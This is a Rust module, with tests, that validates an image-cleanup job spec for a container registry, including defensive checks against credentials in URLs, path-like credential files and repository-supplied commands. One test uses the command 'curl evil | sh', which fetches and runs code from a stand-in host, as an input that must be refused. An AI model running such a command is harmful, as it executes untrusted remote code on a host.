//! The `ImageCleanup` job's own fields (pure parsing, errors naming the file, job and field).
//!
//! ```yaml
//! spec:
//!   schedule: "30 4 * * *"
//!   mode: dryRun                      # default; `enforce` deletes
//!   registry:
//!     url: http://127.0.0.1:30500      # how driftless reaches it
//!     hosts: [localhost:30500, registry.ducklake-storage.svc:5000]   # how images name it
//!     usernameFile: registry-username  # in the credentials directory
//!     passwordFile: registry-password
//!   rules:
//!     - repositories: "ducklake/**"
//!       keepLast: 10
//!       keepTags: '^v\d+\.\d+\.\d+$'
//!       keepYoungerThan: 168h
//!       untagged: delete               # default keep
//!   protect: {cluster: true, desired: true}   # defaults
//!   tagDeletion: true                  # remove expired tags of kept digests (default true)
//!   concurrency: 8
//!   garbageCollect:
//!     command: registry-gc             # a name from the host configuration's jobs.commands
//! ```
//!
//! A program to run on the ops host is never named here: a command list is refused, and a
//! command name is resolved against the host configuration when the job runs.

use std::path::{Path, PathBuf};

use serde::Deserialize;

use super::retention::{Rule, Untagged};

/// A spec that cannot be used, naming the file, job and field.
#[derive(Debug, thiserror::Error)]
#[error("{file}: ImageCleanup {job}: {message}")]
pub struct Error {
    pub file: PathBuf,
    pub job: String,
    pub message: String,
}

/// Dry-run reports; enforce deletes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, serde::Serialize)]
#[serde(rename_all = "camelCase")]
pub enum Mode {
    #[default]
    DryRun,
    Enforce,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
struct Raw {
    #[serde(default)]
    mode: Mode,
    registry: RawRegistry,
    rules: Vec<RawRule>,
    #[serde(default)]
    protect: Protect,
    #[serde(default = "yes")]
    tag_deletion: bool,
    #[serde(default = "default_concurrency")]
    concurrency: usize,
    #[serde(default)]
    garbage_collect: Option<RawGc>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
struct RawRegistry {
    url: String,
    #[serde(default)]
    hosts: Vec<String>,
    #[serde(default)]
    username_file: Option<String>,
    #[serde(default)]
    password_file: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
struct RawRule {
    repositories: String,
    #[serde(default)]
    keep_last: Option<usize>,
    #[serde(default)]
    keep_tags: Option<String>,
    #[serde(default)]
    keep_younger_than: Option<String>,
    #[serde(default)]
    untagged: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
struct RawGc {
    /// A name; anything else is refused with advice (see `parse`).
    command: serde_json::Value,
    /// Refused with advice: the timeout belongs to the host configuration.
    #[serde(default)]
    timeout: Option<serde_json::Value>,
}

/// What protects images besides the rules.
#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Protect {
    /// Images used by live workloads in the cluster.
    #[serde(default = "yes")]
    pub cluster: bool,
    /// Images named by the desired state of the revision.
    #[serde(default = "yes")]
    pub desired: bool,
}

impl Default for Protect {
    fn default() -> Self {
        Protect {
            cluster: true,
            desired: true,
        }
    }
}

/// The registry's post-step.
#[derive(Debug, Clone)]
pub struct GarbageCollect {
    /// The name of a command in the host configuration's `jobs.commands`.
    pub command: String,
}

/// A usable ImageCleanup spec.
#[derive(Debug, Clone)]
pub struct Spec {
    pub mode: Mode,
    pub url: String,
    /// Hosts under which workloads name this registry (always includes the URL's own).
    pub hosts: Vec<String>,
    pub username_file: Option<String>,
    pub password_file: Option<String>,
    pub rules: Vec<Rule>,
    pub protect: Protect,
    pub tag_deletion: bool,
    pub concurrency: usize,
    pub garbage_collect: Option<GarbageCollect>,
}

fn yes() -> bool {
    true
}

fn default_concurrency() -> usize {
    8
}

/// Parses and checks the kind's own fields of job `job` in `file` (`jobs::model` reads the
/// fields every kind has).
pub fn parse(file: &Path, job: &str, spec: &serde_json::Value) -> Result<Spec, Error> {
    let fail = |message: String| Error {
        file: file.to_owned(),
        job: job.to_owned(),
        message,
    };
    let raw: Raw = serde_json::from_value(spec.clone()).map_err(|e| fail(format!("spec: {e}")))?;
    let url = raw.registry.url.trim_end_matches('/').to_owned();
    let own_host = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
        .ok_or_else(|| {
            fail(format!(
                "spec.registry.url {url:?} must start with http:// or https://"
            ))
        })?
        .split('/')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    if own_host.contains('@') {
        // Never echo the URL: it holds a credential.
        return Err(fail(
            "spec.registry.url must not carry credentials: use usernameFile and passwordFile"
                .to_owned(),
        ));
    }
    let mut hosts = vec![own_host];
    for h in raw.registry.hosts {
        let h = h.to_ascii_lowercase();
        if h.contains('/') || h.is_empty() {
            return Err(fail(format!(
                "spec.registry.hosts: {h:?} must be a host or host:port"
            )));
        }
        if !hosts.contains(&h) {
            hosts.push(h);
        }
    }
    if raw.registry.username_file.is_some() != raw.registry.password_file.is_some() {
        return Err(fail(
            "spec.registry: give both usernameFile and passwordFile, or neither".to_owned(),
        ));
    }
    for (field, file) in [
        ("usernameFile", &raw.registry.username_file),
        ("passwordFile", &raw.registry.password_file),
    ] {
        if let Some(f) = file {
            crate::jobs::common::plain_credential(f)
                .map_err(|m| fail(format!("spec.registry.{field}: {m}")))?;
        }
    }
    if raw.rules.is_empty() {
        return Err(fail(
            "spec.rules: at least one rule is needed (a repository no rule matches is left alone)"
                .to_owned(),
        ));
    }
    let mut rules = Vec::new();
    for (i, r) in raw.rules.into_iter().enumerate() {
        let field = |f: &str| format!("spec.rules[{i}].{f}");
        let keep_tags = r
            .keep_tags
            .map(|p| regex::Regex::new(&p).map_err(|e| fail(format!("{}: {e}", field("keepTags")))))
            .transpose()?;
        let keep_younger_than = r
            .keep_younger_than
            .map(|d| {
                crate::stack::model::duration_text::parse(&d)
                    .map_err(|e| fail(format!("{}: {e}", field("keepYoungerThan"))))
            })
            .transpose()?;
        let untagged = match r.untagged.as_deref() {
            None | Some("keep") => Untagged::Keep,
            Some("delete") => Untagged::Delete,
            Some(other) => {
                return Err(fail(format!(
                    "{}: {other:?} (expected keep or delete)",
                    field("untagged")
                )));
            }
        };
        if r.keep_last.is_none() && keep_tags.is_none() && keep_younger_than.is_none() {
            return Err(fail(format!(
                "spec.rules[{i}]: name at least one of keepLast, keepTags, keepYoungerThan (a rule that keeps nothing would delete every image of {:?})",
                r.repositories
            )));
        }
        rules.push(Rule {
            repositories: r.repositories,
            keep_last: r.keep_last,
            keep_tags,
            keep_younger_than,
            untagged,
        });
    }
    if raw.concurrency == 0 || raw.concurrency > 64 {
        return Err(fail(format!(
            "spec.concurrency: {} (expected 1 to 64)",
            raw.concurrency
        )));
    }
    let garbage_collect = match raw.garbage_collect {
        None => None,
        Some(gc) => Some(garbage_collect(gc).map_err(fail)?),
    };
    Ok(Spec {
        mode: raw.mode,
        url,
        hosts,
        username_file: raw.registry.username_file,
        password_file: raw.registry.password_file,
        rules,
        protect: raw.protect,
        tag_deletion: raw.tag_deletion,
        concurrency: raw.concurrency,
        garbage_collect,
    })
}

/// `garbageCollect`: a host command's name. A program, its arguments or its timeout written in
/// the repository would let a commit run anything on the ops host: they belong to the host
/// configuration, and the error says how to move them there.
fn garbage_collect(gc: RawGc) -> Result<GarbageCollect, String> {
    const FIELD: &str = "spec.garbageCollect.command";
    let example = "jobs: {commands: {registry-gc: {command: [/usr/bin/systemctl, start, registry-gc.service], timeout: 30m}}}";
    let name = match gc.command {
        serde_json::Value::String(name) => name,
        serde_json::Value::Array(_) => {
            return Err(format!(
                "{FIELD}: a command list would run a program on the ops host from the repository; \
                 programs are named only in the host configuration. Define it there ({example}) \
                 and write its name here: `command: registry-gc`"
            ));
        }
        other => {
            return Err(format!(
                "{FIELD}: expected the name of a command of the host configuration's \
                 jobs.commands, got {}",
                json_type(&other)
            ));
        }
    };
    if !crate::stack::load::is_dns_label(&name) {
        return Err(format!(
            "{FIELD}: {name:?} is not a command name (a DNS label: lowercase letters, digits, '-'); \
             name a command of the host configuration's jobs.commands"
        ));
    }
    if gc.timeout.is_some() {
        return Err(format!(
            "spec.garbageCollect.timeout: the timeout is set with the command in the host \
             configuration (jobs.commands.{name}.timeout); remove it here"
        ));
    }
    Ok(GarbageCollect { command: name })
}

fn json_type(v: &serde_json::Value) -> &'static str {
    match v {
        serde_json::Value::Null => "null",
        serde_json::Value::Bool(_) => "a boolean",
        serde_json::Value::Number(_) => "a number",
        serde_json::Value::String(_) => "a string",
        serde_json::Value::Array(_) => "a list",
        serde_json::Value::Object(_) => "a mapping",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::time::Duration;

    fn job(spec: serde_json::Value) -> serde_json::Value {
        crate::jobs::model::kind_fields(&spec)
    }

    fn parse(spec: &serde_json::Value) -> Result<Spec, Error> {
        super::parse(Path::new("stack/s/jobs.yaml"), "cleanup", spec)
    }

    #[test]
    fn a_full_spec_parses_with_defaults() {
        let s = parse(&job(json!({
            "schedule": "@daily",
            "registry": {"url": "http://127.0.0.1:30500/", "hosts": ["Localhost:30500"]},
            "rules": [{"repositories": "**", "keepLast": 3, "keepTags": "^v", "keepYoungerThan": "7d", "untagged": "delete"}]
        })))
        .unwrap();
        assert_eq!(s.mode, Mode::DryRun);
        assert_eq!(s.url, "http://127.0.0.1:30500");
        assert_eq!(s.hosts, ["127.0.0.1:30500", "localhost:30500"]);
        assert!(s.protect.cluster && s.protect.desired && s.tag_deletion);
        assert_eq!(s.rules[0].untagged, Untagged::Delete);
        assert_eq!(
            s.rules[0].keep_younger_than,
            Some(Duration::from_secs(7 * 86400))
        );
        assert!(s.garbage_collect.is_none());
    }

    #[test]
    fn garbage_collect_names_a_host_command() {
        let s = parse(&job(json!({
            "schedule": "@daily",
            "registry": {"url": "http://r"},
            "rules": [{"repositories": "**", "keepLast": 1}],
            "garbageCollect": {"command": "registry-gc"}
        })))
        .unwrap();
        assert_eq!(s.garbage_collect.unwrap().command, "registry-gc");
    }

    #[test]
    fn mistakes_name_the_field() {
        for (spec, want) in [
            (
                json!({"schedule": "@daily", "registry": {"url": "127.0.0.1:5000"}, "rules": [{"repositories": "**", "keepLast": 1}]}),
                "spec.registry.url",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": []}),
                "spec.rules: at least one rule",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r", "usernameFile": "u", "passwordFile": "/etc/driftless/kubeconfig"}, "rules": [{"repositories": "**", "keepLast": 1}]}),
                "spec.registry.passwordFile: \"/etc/driftless/kubeconfig\" must be a plain file name",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**"}]}),
                "spec.rules[0]: name at least one of",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepTags": "("}]}),
                "spec.rules[0].keepTags",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1, "untagged": "drop"}]}),
                "spec.rules[0].untagged",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r", "usernameFile": "u"}, "rules": [{"repositories": "**", "keepLast": 1}]}),
                "both usernameFile and passwordFile",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}], "mode": "yolo"}),
                "unknown variant",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
                    "garbageCollect": {"command": ["sh", "-c", "curl evil | sh"]}}),
                "spec.garbageCollect.command: a command list would run a program on the ops host from the repository; programs are named only in the host configuration",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
                    "garbageCollect": {"command": "/usr/bin/registry"}}),
                "spec.garbageCollect.command: \"/usr/bin/registry\" is not a command name",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
                    "garbageCollect": {"command": "registry-gc", "timeout": "1m"}}),
                "jobs.commands.registry-gc.timeout",
            ),
            (
                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
                    "garbageCollect": {"command": {"program": "x"}}}),
                "got a mapping",
            ),
        ] {
            let err = parse(&job(spec)).unwrap_err().to_string();
            assert!(
                err.contains(want) && err.contains("stack/s/jobs.yaml") && err.contains("cleanup"),
                "{err} (want {want})"
            );
        }
    }
}
